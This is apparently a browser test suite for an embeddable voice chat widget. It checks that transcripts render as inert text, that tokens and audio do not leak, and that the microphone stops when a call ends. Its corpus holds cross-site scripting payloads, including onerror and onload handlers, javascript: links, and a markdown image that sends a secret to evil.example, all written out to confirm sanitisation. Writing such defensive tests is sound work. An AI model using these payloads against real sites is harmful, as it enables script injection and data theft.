/** During a call: what the page can find, what is shown of what was said, and when the microphone is on. */
import { tag } from '../../browser/support/host.ts';
import { eavesdrop, search } from '../support/search.ts';
import type { Realm } from '../support/tab.ts';
import { expect, test } from '../support/test.ts';
import { visitorOn } from '../support/visitor-on.ts';

const CORPUS = [
  '<img src=x onerror="window.owned=1"><script>window.owned=1</script>',
  '<svg onload="window.owned=1"><a href="javascript:owned=1">go</a></svg><iframe srcdoc="<b>x</b>"></iframe>',
  '![pixel](https://evil.example/p.png?q=secret) and [link](javascript:window.owned=1)',
  '[one]: https://evil.example/a "x" <https://evil.example/b> https://evil.example/c www.evil.example',
  '&lt;img src=x onerror=owned=1&gt; &#60;script&#62; \\u003cscript\\u003e %3Cscript%3E',
  '"><link rel=stylesheet href=https://evil.example/x.css><style>@import "//evil.example"</style>',
  'right \u202Eevil\u202C left, zero\u200Bwidth\u2060joined \uFEFF done',
];

/** As a reader sees it: white space and marks without width are the renderer's business. */
const seen = (text: string): string => text.replace(/[\s\u200B\u2060\uFEFF\u202A-\u202E]+/g, '');

test('S24, S25, S27, S29: what is said is text, causes no request, and is nowhere on the page', async ({
  newTab,
  stage,
  server,
}) => {
  const tab = await newTab([eavesdrop]);
  await tab.goto(stage.page(`<p>Old Mill Pottery</p>${tag(server.origin)}`));
  const { frame, visitor } = await visitorOn(tab, server.origin);
  const chat = await visitor.call(server);
  await chat.frames(5);
  const requests = tab.requests.length;
  const sound = new Int16Array(1600).fill(1000);
  for (const [index, attack] of CORPUS.entries()) {
    chat.heard(`${attack} asked`);
    chat.say(`answer-${index}`, `${attack} answered`, [sound]);
    chat.endTurn();
    const entries = async (): Promise<string> => seen((await visitor.entries()).join('\n'));
    await expect.poll(entries).toContain(seen(`${attack} asked`));
    await expect.poll(entries).toContain(seen(`${attack} answered`));
  }
  const shown = await frame.run(() => {
    const inner = [...document.querySelectorAll('[role=log] *')];
    return {
      names: [...new Set(inner.map(({ localName }) => localName))],
      active: inner.flatMap((one) =>
        one.getAttributeNames().filter((name) => /^on|href|src|style|data-/.test(name)),
      ),
      owned: 'owned' in window,
    };
  });
  expect(shown.names.filter((name) => !['div', 'article', 'h2', 'p', 'span'].includes(name))).toEqual([]);
  expect([shown.active, shown.owned]).toEqual([[], false]);
  expect(tab.requests.slice(requests)).toEqual([]);

  // The search finds what there is to find: the page's own words, and what the frame did ask of it.
  const found = await tab.run(search);
  expect(found.objects).toBeGreaterThan(1000);
  for (const known of ['hello 1', 'readPage', 'Old Mill Pottery']) expect(found.texts).toContain(known);
  const secrets = [
    server.tokens[0] ?? '',
    'chat-1',
    'group-1',
    'zero\u200Bwidth',
    'onerror=owned',
    'answer-0',
  ];
  expect(secrets[0]).toMatch(/^token/);
  for (const secret of secrets) {
    expect(found.texts.includes(secret), secret).toBe(false);
    expect(tab.complaints.join('\n')).not.toContain(secret);
  }
  // No piece of audio in whatever form: the page has no binary data at all.
  expect(found.binary).toBe(0);
  // The token is in the address of the socket that it opens, and in no other.
  const told = tab.requests.filter((url) => url.includes(secrets[0] ?? ''));
  expect(told.filter((url) => !url.includes('/v0/evi/chat?access_token='))).toEqual([]);
});

const tracks = (frame: Realm): Promise<string[]> =>
  frame.run(() => window.probe.tracks.map((track) => `${track.readyState}`));

test('S37: however a call ends, the microphone is off', async ({ tab, stage, server }) => {
  server.onChat = (chat) => chat.greet();
  await tab.goto(stage.page(tag(server.origin)));
  const { frame, visitor } = await visitorOn(tab, server.origin);
  await visitor.talk();
  await expect.poll(() => tracks(frame)).toEqual(['live']);
  await visitor.press(/^end/i);
  await expect.poll(() => tracks(frame)).toEqual(['ended']);

  await visitor.press(/^(talk|start again|new call|call again)/i);
  await expect.poll(() => tracks(frame)).toEqual(['ended', 'live']);
  await visitor.press(/^close/i);
  await expect.poll(() => tracks(frame)).toEqual(['ended', 'ended']);

  await visitor.talk();
  await expect.poll(() => tracks(frame)).toEqual(['ended', 'ended', 'live']);
  // A page that goes is told so before it goes.
  await frame.run(() => void dispatchEvent(new PageTransitionEvent('pagehide')));
  await expect.poll(() => tracks(frame)).toEqual(['ended', 'ended', 'ended']);

  await visitor.press(/^(talk|start again|new call|call again)/i);
  await expect.poll(async () => (await tracks(frame)).at(-1)).toBe('live');
  // With the frame its microphone is gone, and it can be asked nothing any more; but the server hears the end.
  await expect.poll(() => server.chats.at(-1)?.over).toBe(false);
  const chat = server.chats.at(-1);
  await tab.run(() => window.EviWidget?.destroy());
  await chat?.until(() => chat.over);
});

test('S37: without a press nothing asks for it', async ({ tab, stage, server }) => {
  server.onChat = (chat) => chat.greet();
  await tab.goto(
    stage.page(
      `${tag(server.origin, 'data-open')}<script>
        EviWidget.open();
        outcome = EviWidget.start();
      </script>`,
    ),
  );
  const { frame, visitor } = await visitorOn(tab, server.origin);
  expect(await tab.run(() => Reflect.get(window, 'outcome') as Promise<string>)).toBe('press-needed');
  await frame.until(() => document.querySelector('[role=dialog]'));
  await visitor.send('hello');
  const chat = await server.nextChat();
  await chat.until(() => chat.texts.includes('hello'));
  expect(await frame.run(() => window.probe.microphoneRequests)).toBe(0);
});
